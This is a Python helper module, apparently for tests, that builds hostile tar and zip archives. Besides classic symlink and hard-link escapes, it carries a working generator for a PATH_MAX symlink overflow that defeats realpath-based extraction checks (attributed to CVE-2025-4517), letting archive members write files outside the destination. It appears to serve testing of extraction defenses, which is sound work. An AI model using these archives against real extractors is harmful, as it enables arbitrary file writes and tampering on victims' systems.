"""Hostile archives, written as an attacker would: the classic escapes and the PATH_MAX link overflow.

The overflow is the attack of CVE-2025-4517 (tarfile's `data` filter, fixed in CPython 3.11.13 and
3.12.11). Sixteen real directories with 200-odd character names are nested so that their path is
just under PATH_MAX, and beside each one a one-letter symlink points at it. `a/b/.../p` is then a
short name for the deep directory. A symlink placed there (`l` * 254) pointing sixteen levels up is
fine for a kernel, but its full path is over PATH_MAX, so `os.path.realpath` (non-strict) can't
`lstat` it, takes it for a plain directory and goes on resolving the rest as text. A link
`escape -> a/b/.../p/lll/../outside` therefore looks, to a realpath check, like a directory deep
inside the destination, while the kernel follows it out of the destination. A member written
through `escape/` or a hard link to `escape/<file>` then lands outside.

`overflow_escape(dest, outside)` computes the names for a real `dest` (the directory the archive will
be unpacked into) so that the arithmetic holds on this machine; an attacker guesses the length of
the destination to within the 255 characters of slack the attack allows.
"""

from __future__ import annotations

import base64
import io
import os
import stat
import tarfile
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

PATH_MAX = 4096
STEPS = "abcdefghijklmnop"
LONG_LINK = "l" * 254


@dataclass(frozen=True)
class Entry:
    """One archive member: kind is "file", "dir", "symlink" or "hardlink" (`link` is the target)."""

    kind: str
    name: str
    data: bytes = b""
    link: str = ""


def file(name: str, data: bytes | str = b"") -> Entry:
    return Entry("file", name, data.encode() if isinstance(data, str) else data)


def symlink(name: str, target: str) -> Entry:
    return Entry("symlink", name, link=target)


def hardlink(name: str, target: str) -> Entry:
    return Entry("hardlink", name, link=target)


def directory(name: str) -> Entry:
    return Entry("dir", name)


def overflow_escape(dest: Path, outside: Path, component: int | None = None, through_links: bool = True) -> list[Entry]:
    """Members that make `escape` a symlink which a realpath check places inside `dest`, but leads to `outside`.

    Follow them with `file("escape/NAME")` to plant a file in `outside`, or `hardlink("x", "escape/NAME")`
    to link a file that is already there. `component` is the length of the long directory names; by
    default as long as `dest` allows. A git tree can't hold a path through a symlink, so for git the
    long link is named by its real path (`through_links=False`), and its directories must be shorter
    (238), since git creates paths relative to its work tree.
    """
    real_dest = os.path.realpath(dest)
    steps = len(STEPS)
    # The deep directory must stay creatable (under PATH_MAX) while the link inside it must not be.
    if component is None:
        component = min(250, (PATH_MAX - 12 - len(real_dest)) // steps - 1)
    deep = len(real_dest) + steps * (component + 1)
    assert deep < PATH_MAX and deep + 1 + len(LONG_LINK) >= PATH_MAX, "destination path too long for the attack"
    comp = "d" * component
    entries: list[Entry] = []
    path = ""
    for letter in STEPS:
        entries.append(directory(os.path.join(path, comp)))
        entries.append(symlink(os.path.join(path, letter), comp))
        path = os.path.join(path, comp)
    short = "/".join(STEPS)
    entries.append(symlink(f"{short if through_links else path}/{LONG_LINK}", "/".join([".."] * steps)))
    up = os.path.relpath(os.path.realpath(outside), real_dest)  # e.g. ../outside
    entries.append(symlink("escape", f"{short}/{LONG_LINK}/{up}"))
    return entries


def tar_gz(entries: list[Entry]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for entry in entries:
            info = tarfile.TarInfo(entry.name)
            info.mode = 0o755 if entry.kind == "dir" else 0o644
            content = None
            if entry.kind == "file":
                info.size = len(entry.data)
                content = io.BytesIO(entry.data)
            elif entry.kind == "dir":
                info.type = tarfile.DIRTYPE
            elif entry.kind == "symlink":
                info.type, info.linkname = tarfile.SYMTYPE, entry.link
            elif entry.kind == "hardlink":
                info.type, info.linkname = tarfile.LNKTYPE, entry.link
            else:
                raise ValueError(entry.kind)
            tar.addfile(info, content)
    return buffer.getvalue()


def tar_gz_b64(entries: list[Entry]) -> str:
    return base64.b64encode(tar_gz(entries)).decode()


def zip_bytes(entries: list[Entry]) -> bytes:
    """A zip of the entries; symlinks are entries with the S_IFLNK mode (as `zip --symlinks` writes them)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Duplicate name", UserWarning)  # attacks may repeat a name
        for entry in entries:
            if entry.kind == "file":
                info = zipfile.ZipInfo(entry.name)
                info.external_attr = (stat.S_IFREG | 0o644) << 16
                archive.writestr(info, entry.data)
            elif entry.kind == "dir":
                info = zipfile.ZipInfo(entry.name.rstrip("/") + "/")
                info.external_attr = (stat.S_IFDIR | 0o755) << 16
                archive.writestr(info, b"")
            elif entry.kind == "symlink":
                info = zipfile.ZipInfo(entry.name)
                info.create_system = 3
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                archive.writestr(info, entry.link)
            else:
                raise ValueError(f"zip archives have no {entry.kind} entries")
    return buffer.getvalue()


def files_under(root: Path) -> dict[str, bytes]:
    """Every regular file under `root` (not following links), by relative path."""
    found: dict[str, bytes] = {}
    for dirpath, _dirnames, filenames in os.walk(root):
        for name in filenames:
            path = Path(dirpath) / name
            if path.is_file() and not path.is_symlink():
                found[path.relative_to(root).as_posix()] = path.read_bytes()
    return found
